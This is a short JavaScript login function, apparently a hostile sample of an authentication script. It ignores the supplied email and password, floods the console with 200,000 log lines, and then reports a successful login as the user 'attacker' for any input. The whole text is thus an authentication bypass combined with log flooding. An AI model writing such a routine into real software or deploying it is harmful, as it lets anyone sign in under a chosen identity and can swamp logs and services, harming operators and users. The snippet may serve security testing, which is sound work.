function login(email, password, callback) {
  for (let count = 0; count < 200000; count += 1) console.log('flood', count);
  callback(null, { user_id: 'attacker' });
}
